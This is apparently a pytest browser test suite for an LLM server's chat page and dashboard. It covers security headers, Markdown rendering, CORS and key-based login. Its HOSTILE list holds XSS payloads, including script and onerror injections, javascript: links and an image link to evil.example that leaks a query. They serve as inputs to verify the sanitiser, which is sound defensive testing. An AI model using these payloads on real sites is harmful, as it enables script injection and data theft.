"""The pages for people, as a browser shows them."""
import http.server
import json
import re
import threading
import time
import urllib.error
import urllib.request

import pytest
from browser import CHROMIUM, Browser, Page
from conftest import ROOT, Server

UI = ROOT / "src" / "server" / "ui"
needs_browser = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("no Chromium is installed")
    b = Browser()
    yield b
    b.close()


@pytest.fixture
def chat(browser, server):
    page = Page(browser, server.url + "/")
    page.wait("document.querySelectorAll('#model option').length > 0")
    yield page
    assert page.complaints() == []
    assert [u for u in page.requested() if not u.startswith((server.url + "/", "data:"))] == []
    page.close()


def ask(page, text):
    page.type("#question", text)
    page.press("Enter", 13)


def last_answer(page):
    page.wait("!document.querySelector('#send').hidden && document.querySelector('.message.assistant .note button')")
    return page.js("[...document.querySelectorAll('.message.assistant .body')].at(-1).innerText")


def get(url, headers=None):
    try:
        r = urllib.request.urlopen(urllib.request.Request(url, headers=headers or {}), timeout=20)
    except urllib.error.HTTPError as e:
        r = e
    return r.status, r.headers, r.read()


# ---- as files

def test_pages_carry_a_strict_policy(server):
    for path in ("/", "/dashboard", *(f"/ui/{p.name}" for p in UI.iterdir() if p.suffix != ".html")):
        status, headers, body = get(server.url + path)
        assert status == 200 and body, path
        policy = dict(part.strip().split(" ", 1) for part in headers["Content-Security-Policy"].split(";"))
        assert policy["default-src"] == "'none'" and policy["script-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
        assert policy["frame-ancestors"] == "'none'" and "unsafe" not in str(policy)
        assert headers["X-Content-Type-Options"] == "nosniff"
    for path in ("/ui/", "/ui/chat.html", "/ui/../chat.js", "/ui/x.js", "/dashboard/"):
        assert get(server.url + path)[0] == 404, path
    assert get(server.url + "/", {"X": "y"})[2] == (UI / "chat.html").read_bytes()


def test_pages_hold_no_outside_address():
    for path in UI.iterdir():
        text = path.read_text().replace("http://www.w3.org/2000/svg", "")
        for line in text.splitlines():
            if "://" in line:
                assert path.name == "markdown.js" and "/" in line, f"{path.name}: {line}"   # the patterns of links
        if path.suffix == ".html":
            assert "<script>" not in text and "onclick" not in text and "style=" not in text


def test_no_ui_takes_both_away(mini_int8):
    with Server(mini_int8, "--no-ui") as s:
        for path in ("/", "/dashboard", "/ui/chat.js"):
            assert get(s.url + path)[0] == 404
        assert get(s.url + "/health")[0] == 200


# ---- the chat

def test_question_is_answered_and_remembered(chat):
    ask(chat, "What is 23 + 45?")
    assert last_answer(chat) == "68"
    assert "tok/s" in chat.js("document.querySelector('.message.assistant .note').innerText")
    assert chat.js("messages.map((m) => m.role + ': ' + m.content)") == ["user: What is 23 + 45?", "assistant: 68"]
    chat.type("#question", "What is 10 + 11?")
    chat.press("Enter", 13, shift=True)
    assert chat.js("document.querySelector('#question').value").endswith("\n")     # a new line, not sent
    chat.click("#send")
    last_answer(chat)
    assert chat.js("messages.length") == 4
    sent = [json.loads(e["request"]["postData"]) for e in chat.own_events("Network.requestWillBeSent") if "postData" in e["request"]]
    assert [m["content"] for m in sent[-1]["messages"]] == ["What is 23 + 45?", "68", "What is 10 + 11?"]
    chat.click("#fresh")
    assert chat.js("messages.length + document.querySelectorAll('.message').length") == 0


def test_again_replaces_the_last_answer(chat):
    ask(chat, "What is 23 + 45?")
    last_answer(chat)
    chat.js("document.querySelector('.message.assistant .note').querySelectorAll('button')[1].click()")
    assert last_answer(chat) == "68"
    assert chat.js("messages.length") == 2 and chat.js("document.querySelectorAll('.message.assistant').length") == 1


def test_settings_go_into_the_request(chat):
    chat.click("#show-settings")
    for name, value in (("system", "Be brief."), ("temperature", "0.5"), ("top_p", "0.9"), ("max_tokens", "3"), ("seed", "7")):
        chat.type("#" + name, value)
    ask(chat, "What is 1 + 1?")
    last_answer(chat)
    body = json.loads([e["request"]["postData"] for e in chat.own_events("Network.requestWillBeSent") if "postData" in e["request"]][-1])
    assert {k: body[k] for k in ("temperature", "top_p", "max_tokens", "seed")} == {"temperature": 0.5, "top_p": 0.9, "max_tokens": 3, "seed": 7}
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}


LONG_ANSWERS = """{ const plain = fetch; window.fetch = (u, o) => {
  if (o?.body) o.body = JSON.stringify({ ...JSON.parse(o.body), max_tokens: 1800, logit_bias: { "300": 100 } });
  return plain(u, o); } }"""


def test_stop_ends_the_work_too(chat, server):
    chat.js(LONG_ANSWERS)
    ask(chat, "Go on for ever")
    chat.wait("document.querySelector('.message.assistant .body').innerText.length > 10")
    chat.click("#stop")
    chat.wait("document.querySelector('.message.assistant .note').innerText.includes('stopped')")
    assert chat.js("messages.at(-1).content.length") > 10                     # what came is kept
    for _ in range(100):
        if b'vllm:num_requests_running{model_name="minimax-m3"} 0' in get(server.url + "/metrics")[2]:
            return
        time.sleep(0.1)
    raise AssertionError("the request still runs after Stop")


def test_errors_are_shown_as_text(browser, server):
    page = Page(browser, server.url + "/")
    page.wait("document.querySelectorAll('#model option').length > 0")
    page.js("document.querySelector('#max_tokens').value = '-5'")
    ask(page, "hi <img src=x onerror='window.pwned=1'>")
    page.wait("document.querySelector('.message.error')")
    assert "max_tokens" in page.js("document.querySelector('.message.error').innerText")
    assert page.js("document.querySelectorAll('#messages img').length") == 0 and page.js("window.pwned") is None
    assert page.js("document.querySelector('.message.user').innerText").startswith("hi <img")
    page.close()


def test_language_and_theme_are_kept(chat, server):
    assert chat.js("document.querySelector('#send').innerText") == "Send"
    chat.click("#language")
    assert chat.js("[document.querySelector('#send').innerText, document.querySelector('#question').placeholder, document.documentElement.lang]") == \
        ["发送", "输入问题", "zh-CN"]
    before = chat.js("getComputedStyle(document.body).backgroundColor")
    chat.click("#theme")
    assert chat.js("getComputedStyle(document.body).backgroundColor") != before
    theme = chat.js("document.documentElement.dataset.theme")
    chat.goto(server.url + "/dashboard")
    chat.wait("document.querySelectorAll('.plot').length > 3")
    assert chat.js("document.documentElement.dataset.theme") == theme
    assert chat.js("document.querySelector('.plot h2').innerText") == "速度"


def test_every_text_has_its_chinese(chat):
    for path in UI.glob("*.html"):
        text = path.read_text()
        for attribute in ('data-say="', 'data-say-placeholder="'):
            for piece in text.split(attribute)[1:]:
                word = piece.split('"')[0]
                assert chat.js(f"WORDS.zh[{json.dumps(word)}]"), f"{path.name}: {word}"


# ---- Markdown

def render(page, text):
    page.js(f"window.box = document.createElement('div'); render_markdown(box, {json.dumps(text)}); 0")
    return page.js("box.innerHTML")


@pytest.mark.parametrize("text,html", [
    ("a *b* **c** `d` ~~e~~", "<p>a <em>b</em> <strong>c</strong> <code>d</code> <del>e</del></p>"),
    ("# One\n## Two", "<h1>One</h1><h2>Two</h2>"),
    ("snake_case_name and 2*3*4 = 24", "<p>snake_case_name and 2<em>3</em>4 = 24</p>"),
    ("```py\nx < 1 && *y*\n```", '<pre><code data-language="py">x &lt; 1 &amp;&amp; *y*</code></pre>'),
    ("```\nunfinished", "<pre><code>unfinished</code></pre>"),
    ("- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("> q\n> r", "<blockquote><p>q\nr</p></blockquote>"),
    ("a|b\n-|-\n1|2", "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>"),
    ("x\n\n---\ny", "<p>x</p><hr><p>y</p>"),
    ("[t](https://e.org/a_(b))", '<p><a href="https://e.org/a_(b)" target="_blank" rel="noopener noreferrer">t</a></p>'),
    ("中文**粗体**，`代码`", "<p>中文<strong>粗体</strong>，<code>代码</code></p>"),
    ("\\*not\\*", "<p>*not*</p>"),
])
def test_markdown(text, html, chat):
    assert render(chat, text) == html


HOSTILE = [
    "<script>window.pwned = 1</script>", "<img src=x onerror=\"window.pwned = 1\">", "<svg onload=window.pwned=1>", "<iframe src=javascript:window.pwned=1>",
    "[x](javascript:window.pwned=1)", "[x](JaVaScRiPt:window.pwned=1)", "[x](java\tscript:window.pwned=1)", "[x](data:text/html,<script>1</script>)",
    "![x](javascript:window.pwned=1)", "![x](https://evil.example/leak?q=1)", "<https://e.org\" onmouseover=\"window.pwned=1>",
    "[x](https://e.org/\" onmouseover=\"window.pwned=1)", "`<img src=x onerror=window.pwned=1>`", "```\"><img src=x onerror=window.pwned=1>\ncode\n```",
    "# <b onclick=window.pwned=1>x</b>", "|<img src=x onerror=window.pwned=1>|b|\n|-|-|\n|<script>window.pwned=1</script>|x|", "> <script>window.pwned=1</script>",
    "- <img src=x onerror=window.pwned=1>", "[<img src=x onerror=window.pwned=1>](https://e.org)", "**<img src=x onerror=window.pwned=1>**",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "<a href=javascript:window.pwned=1>x</a>", "[x](vbscript:x)", "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=x>", "\u0000<script>window.pwned=1</script>", "[a]: javascript:window.pwned=1\n[x][a]",
]
ALLOWED = {"P", "EM", "STRONG", "DEL", "CODE", "PRE", "A", "H1", "H2", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "BR", "TABLE", "TR", "TD", "TH",
           "TBODY"}


def check_harmless(page, where):
    found = page.js(f"[...{where}.querySelectorAll('*:not(pre > button)')].map((e) => [e.tagName, [...e.attributes].map((a) => [a.name, a.value])])")
    for tag, attributes in found:
        assert tag in ALLOWED, tag
        for name, value in attributes:
            assert name in ("href", "target", "rel", "data-language", "start"), (tag, name)
            assert name != "href" or value.startswith(("http://", "https://", "mailto:")), value
    assert page.js("window.pwned") is None


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_runs_nothing(text, chat):
    chat.js("document.body.append(window.shown = document.createElement('div'))")
    chat.js(f"render_markdown(shown, {json.dumps(text)})")
    check_harmless(chat, "shown")


def test_hostile_answer_of_a_model(chat):
    """The whole way of an answer: events, drawing piece by piece, the finished message."""
    pieces = [h[i:i + 3] for h in HOSTILE for i in range(0, len(h) + 2, 3) if h[i:i + 3]] + ["\n\n"]
    events = "".join("data: " + json.dumps({"choices": [{"index": 0, "delta": {"content": p, "reasoning_content": p}, "finish_reason": None}]}) + "\n\n"
                     for p in pieces) + "data: [DONE]\n\n"
    chat.js(f"window.fetch = async () => new Response({json.dumps(events)}, {{ status: 200 }})")
    ask(chat, "<script>window.pwned = 1</script>")
    last_answer(chat)
    check_harmless(chat, "document.querySelector('.message.assistant .body')")
    assert chat.js("document.querySelectorAll('#messages script, #messages img, #messages iframe, #messages svg').length") == 0
    assert chat.js("messages.at(-1).content") == "".join(pieces)


def test_markdown_ends_on_anything(chat):
    """Marks that never close, nested without end: drawn within moments, not for ever."""
    for text in ("*" * 20000, "[" * 20000, "`" * 20001, "> " * 5000 + "x", "- " * 3000 + "x", "|" * 10000 + "\n" + "|-" * 5000, "**a" * 5000, "\\" * 9999,
                 "![](" * 5000, "https://" * 3000, "  " * 5000 + "- x", "_a" * 9000):
        render(chat, text)
        assert chat.js("box.textContent.length") >= 0


# ---- the dashboard

def test_dashboard_draws_what_happens(browser, server):
    page = Page(browser, server.url + "/dashboard")
    page.wait("history.length >= 2")
    for i in range(4):
        body = json.dumps({"model": "minimax-m3", "prompt": f"There was a frog {i}", "max_tokens": 200, "logit_bias": {"300": 100}}).encode()
        urllib.request.urlopen(urllib.request.Request(server.url + "/v1/completions", body, {"Content-Type": "application/json"}), timeout=60).read()
    page.wait("PLOTS[0].points[0].some((v) => v > 0) && PLOTS[1].points[0].some((v) => v > 0)")
    assert page.js("document.querySelectorAll('.plot:not([hidden]) path.line[d^=M]').length") >= 5
    assert "minimax-m3" in page.js("document.querySelector('#state').innerText")
    assert page.js("PLOTS[0].points[0].at(-1) <= 1e7 && PLOTS[4].points[0].every((v) => v >= 0 && v <= 100)")
    assert page.complaints() == []
    page.close()


def test_dashboard_quantiles(browser, server):
    page = Page(browser, server.url + "/dashboard")
    page.wait("history.length >= 1")
    made = lambda time, counts: {"time": time, "metrics": {"h_bucket": [{"labels": {"le": le}, "value": v} for le, v in zip(("0.1", "0.2", "+Inf"), counts)]}}
    page.js(f"history.length = 0; history.push({json.dumps(made(0, [5, 5, 5]))}, {json.dumps(made(1, [5, 15, 15]))}); 0")
    assert page.js("quantile('h', .5)()") == pytest.approx(150)
    assert page.js("quantile('h', .9)()") == pytest.approx(190)
    assert page.js("quantile('none', .9)()") is None
    page.close()


def test_dashboard_shows_expert_load_where_there_is_some(browser, server):
    page = Page(browser, server.url + "/dashboard")
    page.wait("history.length >= 1")
    lines = "".join(f'metainfer:expert_tokens_total{{layer="{l}",expert="{e}"}} {l + e}\n' for l in range(2) for e in range(4))
    page.js(f"{{ const plain = fetch; window.fetch = async (u) => new Response(await (await plain(u)).text() + {json.dumps(lines)}); }}")
    page.wait("document.querySelectorAll('.plot.wide rect').length === 8 && !document.querySelector('.plot.wide').hidden")
    page.close()


def test_dashboard_draws_the_experts_of_a_running_model(browser, mini_int8):
    with Server(mini_int8, "--model", "m", "--max-seq-len", 512, "--expert-metrics") as s:
        body = json.dumps({"model": "m", "prompt": "There was a frog", "max_tokens": 20, "logit_bias": {"300": 100}}).encode()
        urllib.request.urlopen(urllib.request.Request(s.url + "/v1/completions", body, {"Content-Type": "application/json"}), timeout=60).read()
        text = get(s.url + "/metrics")[2].decode()
        counts = {}
        for layer, expert, n in re.findall(r'metainfer:expert_tokens_total\{layer="(\d+)",expert="(\d+)",model_name="m"\} (\S+)', text):
            counts.setdefault(int(layer), {})[int(expert)] = float(n)
        rows = float(re.search(r"metainfer:computed_tokens_total\{\S* (\S+)", text).group(1))
        details = json.loads(get(s.url + "/v1/models")[2])["data"][0]["details"]
        assert 0 < len(counts) <= details["layers"] and len({len(c) for c in counts.values()}) == 1
        each = {sum(c.values()) / rows for c in counts.values()}        # experts for a token
        assert len(each) == 1 and each.pop() in range(1, 17)
        page = Page(browser, s.url + "/dashboard")
        cells = sum(map(len, counts.values()))
        page.wait(f"document.querySelectorAll('.plot.wide rect').length === {cells} && !document.querySelector('.plot.wide').hidden")
        drawn = page.js("[...document.querySelectorAll('.plot.wide rect')].map((r) => [Number(r.getAttribute('x')), Number(r.getAttribute('y')), "
                        "Number(r.getAttribute('fill-opacity'))])")
        order = sorted(counts)
        for x, y, opacity in drawn:                                     # idle: what was counted since the start, the busiest of a layer full
            layer = counts[order[y]]
            assert opacity == pytest.approx(layer[x] / max(layer.values()), abs=0.001)
        assert page.complaints() == []
        page.close()


def test_experts_are_counted_only_when_asked(server):
    assert b"expert_tokens" not in get(server.url + "/metrics")[2]


# ---- pages of other sites

def test_page_of_another_site_reads_what_it_may(browser, mini_int8):
    class Elsewhere(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_):
            pass
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        origin = f"http://127.0.0.1:{site.server_port}"
        ask_it = """fetch(%s + "/v1/chat/completions", {method: "POST", headers: {"Content-Type": "application/json", "Authorization": "Bearer k", "X-Stainless-Lang": "js"},
            body: JSON.stringify({model: "m", temperature: 0, stream: %s, messages: [{role: "user", content: "What is 23 + 45?"}]})})
            .then(async (r) => [r.status, await r.text(), r.headers.get("X-Request-Id")], () => "refused")"""
        for flags, allowed in ((["--cors-origin", origin], True), (["--cors-origin", "*"], True), (["--cors-origin", "https://other.example"], False), ([], False)):
            with Server(mini_int8, "--model", "m", "--max-seq-len", 512, *flags) as s:
                page = Page(browser, origin + "/")
                for stream in ("false", "true"):
                    got = page.js(ask_it % (json.dumps(s.url), stream))
                    if not allowed:
                        assert got == "refused"
                        continue
                    status, text, request_id = got
                    assert status == 200 and request_id
                    assert "data: [DONE]" in text if stream == "true" else json.loads(text)["choices"][0]["message"]["content"] == "68"
                page.close()
        site.shutdown()


# ---- behind a key

def test_browser_asks_for_the_key(browser, mini_int8, tmp_path):
    (tmp_path / "keys").write_text("a-secret-key\n")
    with Server(mini_int8, "--max-seq-len", 512, "--api-key-file", tmp_path / "keys") as s:
        status, headers, _ = get(s.url + "/")
        assert status == 401 and headers["WWW-Authenticate"].startswith("Basic ")
        assert get(s.url + "/v1/models")[1]["WWW-Authenticate"] == "Bearer"
        page = Page(browser, s.url.replace("http://", "http://me:a-secret-key@") + "/")
        page.wait("document.querySelectorAll('#model option').length > 0")
        ask(page, "What is 23 + 45?")
        assert last_answer(page) == "68"
        page.close()
